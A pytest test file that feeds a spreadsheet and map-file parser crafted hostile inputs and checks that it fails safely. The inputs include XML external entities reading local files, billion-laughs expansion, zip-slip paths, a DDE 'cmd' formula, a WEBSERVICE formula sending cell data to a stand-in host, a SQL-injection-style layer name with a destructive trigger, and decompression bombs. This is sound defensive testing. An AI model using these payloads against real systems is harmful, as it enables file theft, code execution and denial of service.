"""Files made to harm: each gives a message or a plain table, at once, without reading or writing anything else."""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
from time import perf_counter
from typing import TYPE_CHECKING

import pytest

from data.errors import TableError
from data.files.any_table import table_of_bytes
from tests.workbook_files import Day, open_document, workbook, zipped

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from pathlib import Path

ELSEWHERE = "zebrafish"
LONGEST_S = 10.0  # a hundred times what any of them takes
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
HEAD = ("id", "date", "place")


def source(path: Path) -> str:
    """Return what makes some readers of map files open another file."""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{path / "secret.csv"}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )


def entity(path: Path) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{path / "secret.csv"}">]>'


def kml(name: str, before: str = "") -> bytes:
    point = "<Point><coordinates>-9,14</coordinates></Point>"
    placed = f"<Placemark><name>{name}</name>{point}</Placemark>"
    root = '<kml xmlns="http://www.opengis.net/kml/2.2">'
    return f'<?xml version="1.0"?>{before}{root}<Document>{placed}</Document></kml>'.encode()


def gpx(name: str, before: str = "") -> bytes:
    root = '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'
    return f'<?xml version="1.0"?>{before}{root}<wpt lat="14" lon="-9"><name>{name}</name></wpt></gpx>'.encode()


def with_members(raw: bytes, **members: str | bytes) -> bytes:
    """Return an archive with further members, or others in the place of its own."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        names = {name.replace("__", "."): content for name, content in members.items()}
        for name in old.namelist():
            if name not in names:
                new.writestr(name, old.read(name))
        for name, content in names.items():
            new.writestr(name, content)
    return buffer.getvalue()


def book(*rows: Sequence[object]) -> bytes:
    return workbook({"D": [HEAD, *rows]})


def outside(path: Path) -> bytes:
    """Return a workbook whose texts name a file."""
    texts = f'<?xml version="1.0"?>{entity(path)}<sst count="1"><si><t>&e;</t></si></sst>'
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>'
    linked = workbook({"D": rows})
    with zipfile.ZipFile(io.BytesIO(linked)) as archive:
        links = archive.read("xl/_rels/workbook.xml.rels").decode()
    link = (
        '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>'
    )
    return with_members(
        linked,
        **{
            "xl/sharedStrings__xml": texts,
            "xl/_rels/workbook__xml__rels": links.replace("</Relationships>", link),
            "xl/externalLinks/externalLink1__xml": f'<externalLink Target="file://{path / "secret.csv"}"/>',
        },
    )


def geopackage(path: Path) -> bytes:
    """Return a GeoPackage with a layer of a hostile name, and a trigger."""
    import numpy as np
    import pyogrio
    import shapely

    layer = "x\"; DROP TABLE gpkg_contents;--../../\x1b[31m'"
    points = np.array([shapely.to_wkb(shapely.Point(-9, 14))])
    names = [np.array(["A1"], dtype=object)]
    target = path / "made.gpkg"
    pyogrio.raw.write(target, points, names, ["id"], driver="GPKG", geometry_type="Point", crs="EPSG:4326", layer=layer)
    with sqlite3.connect(target) as base:
        base.execute("CREATE TABLE more (id TEXT)")
        base.execute("CREATE TRIGGER t AFTER INSERT ON more BEGIN DELETE FROM gpkg_contents; END")
    base.close()
    raw = target.read_bytes()
    target.unlink()
    return raw


def shapefile(up: str) -> bytes:
    """Return an archive of a Shapefile of one point, whose names lead out of the folder."""
    shape = struct.pack("<i2d", 1, -9.0, 14.0)
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, (100 + 8 + len(shape)) // 2)
    head += struct.pack("<2i8d", 1000, 1, -9, 14, -9, 14, 0, 0, 0, 0)
    index = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 54) + head[28:] + struct.pack(">2i", 50, len(shape) // 2)
    field = b"id".ljust(11, b"\0") + b"C" + bytes(4) + bytes([4, 0]) + bytes(14)
    table = struct.pack("<B3BIHH20x", 3, 125, 1, 1, 1, 65, 5) + field + b"\r A1  "
    parts = {"shp": head + struct.pack(">2i", 1, len(shape) // 2) + shape, "shx": index, "dbf": table}
    return zipped(**{f"{up}a__{ending}": content for ending, content in parts.items()})


def nested(opened: str, closed: str, times: int) -> bytes:
    return f'[{{"id": "A1", "x": {opened * times}1{closed * times}}}]'.encode()


def packed_by_bzip2() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("a.csv", b"0" * 10_000_000)
    return buffer.getvalue()


HOSTILE: dict[str, bytes | Callable[[Path], bytes]] = {
    "formulas": book(("=cmd|'/c calc'!A0", Day(45958), '=WEBSERVICE("http://x.invalid/"&A1)')),
    "macros": with_members(book(("A1", Day(45958), "Kita")), **{"xl/vbaProject__bin": b"\xd0\xcf\x11\xe0Auto_Open"}),
    "a workbook that names a file": outside,
    "a workbook with entities": workbook({"D": f"<!DOCTYPE x [{LAUGHS}]><row r='1'><c r='A1'><v>&l11;</v></c></row>"}),
    "a workbook of 10,000 columns": workbook(
        {"D": f"<row r='1'>{'<c><v>1</v></c>' * 10_000}</row><row r='2'><c><v>1</v></c></row>"}
    ),
    "a cell beyond all columns": workbook({"D": "<row r='1'><c r='ZZZZZ999'><v>1</v></c></row>"}),
    "a cell beyond all rows": workbook({"D": "<row r='1'><c r='A4294967295'><v>1</v></c></row>"}),
    "a workbook with names that lead out": with_members(book(("A1", 1, "Kita")), **{"../../../out__txt": "x"}),
    "an open document that names a file": lambda path: with_members(
        open_document("<table:table-row/>"), content__xml=f'<?xml version="1.0"?>{entity(path)}<a>&e;</a>'
    ),
    "rows without end": open_document('<table:table-row table:number-rows-repeated="4294967295"/>'),
    "an old workbook cut off": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3_000,
    "KML that names a file": lambda path: kml("&e;", entity(path)),
    "KML with entities": kml("&l11;", f"<!DOCTYPE x [{LAUGHS}]>"),
    "KML with entities far behind": kml("&l11;", f"<!--{'x' * 4_000}--><!DOCTYPE x [{LAUGHS}]>"),
    "KML of another source": lambda path: b"<!-- <kml> -->" + source(path).encode(),
    "KML before another source": lambda path: kml("A1") + source(path).encode(),
    "KMZ of another source": lambda path: zipped(doc__kml=source(path)),
    "KML that links": kml("A1").replace(
        b"<Placemark>", b"<NetworkLink><Link><href>/etc/passwd</href></Link></NetworkLink><Placemark>"
    ),
    "GPX that names a file": lambda path: gpx("&e;", entity(path)),
    "GPX with entities": gpx("&l11;", f"<!DOCTYPE x [{LAUGHS}]>"),
    "a Shapefile of another source": lambda path: zipped(a__shp=source(path)),
    "a Shapefile with names that lead out": shapefile("../../../"),
    "a Shapefile at the root": shapefile("/root/"),
    "a GeoPackage with a hostile name": geopackage,
    "a GeoPackage that is none": b"SQLite format 3\x00" + b"\xff" * 4_000,
    "a FlatGeobuf of endless rows": b"fgb\x03fgb\x00" + b"\xff\xff\xff\x7f" * 50,
    "lists in lists": nested("[", "]", 50_000),
    "records in records": nested('{"a":', "}", 50_000),
    "records in some records": nested('{"a":', "}", 500),
    "GeoJSON of collections in collections": (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"id":"A1"},"geometry":'
        + '{"type":"GeometryCollection","geometries":[' * 300
        + "]}" * 300
        + "}]}"
    ).encode(),
    "GeoJSON of 10,000 columns": json.dumps(
        {
            "type": "FeatureCollection",
            "features": [{"type": "Feature", "geometry": None, "properties": {f"c{n}": n for n in range(10_000)}}],
        }
    ).encode(),
    "an archive in an archive": zipped(a__csv=zipped(b__csv="id\n1\n")),
    "an archive packed by other means": packed_by_bzip2(),
    "an archive with a name that is no text": zipped(é__csv="id,x\n1,2\n").replace("é".encode(), b"\xff\xff"),
    "a table with names that lead out": zipped(**{"../../a__csv": "id,x\n1,2\n"}),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_it_gives_a_message_or_a_plain_table_and_reaches_nothing_else(kind: str, tmp_path: Path) -> None:
    folder = tmp_path / "here"
    folder.mkdir()
    (folder / "secret.csv").write_text(f"id,name\nS1,{ELSEWHERE}\n", encoding="utf-8")
    made = HOSTILE[kind]
    raw = made if isinstance(made, bytes) else made(folder)
    begun = perf_counter()
    try:
        told = repr(table_of_bytes(raw, kind))
    except TableError as error:
        told = str(error)
        assert len(told) < 500
        assert told.isprintable()
    assert perf_counter() - begun < LONGEST_S
    assert ELSEWHERE not in told
    assert "root:x:" not in told
    assert [path.name for path in tmp_path.rglob("*")] == ["here", "secret.csv"]
